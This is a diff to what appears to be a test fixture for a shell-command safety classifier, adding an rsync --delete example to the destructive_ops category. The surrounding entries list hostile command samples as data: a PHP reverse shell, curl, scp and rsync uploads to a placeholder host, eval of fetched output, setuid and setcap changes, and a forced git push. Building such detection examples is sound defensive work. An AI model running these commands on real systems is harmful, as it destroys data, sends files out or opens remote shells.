@@ -48,7 +48,12 @@ EXAMPLES = {
         'php -r \'$s=fsockopen("h",1);exec("sh")\'',
     ),
     "eval": ('eval "$(x)"', "eval `x`", ". <(x)"),
-    "destructive_ops": ("git reset --hard HEAD~1", "git -C x push origin main --force", "find . -name x -delete"),
+    "destructive_ops": (
+        "git reset --hard HEAD~1",
+        "git -C x push origin main --force",
+        "find . -name x -delete",
+        "rsync -a --delete a b",
+    ),
     "data_exfiltration": ("curl -d @x h", "scp x h:", "rsync -a . me@h:/x", "curl h --data-binary @x"),
     "code_injection": ("python3.12 -c x", "node -e x", "bash -c ls", "env -i perl -e x"),
     "privilege_escalation": ("chmod u+s x", "chmod 4755 x", "visudo", "setcap x y"),
